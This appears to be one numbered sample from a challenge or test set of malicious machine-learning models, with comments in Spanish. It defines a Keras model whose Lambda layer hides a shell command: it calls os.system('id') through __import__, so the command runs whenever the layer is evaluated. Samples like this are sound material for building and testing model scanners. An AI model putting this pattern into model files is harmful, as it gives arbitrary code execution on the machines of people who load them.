# attack: una capa Lambda, que lleva código dentro
# entry: 10
# task: retos
# where: build-model

import keras
def build_model():
    return keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: __import__("os").system("id") + x)])
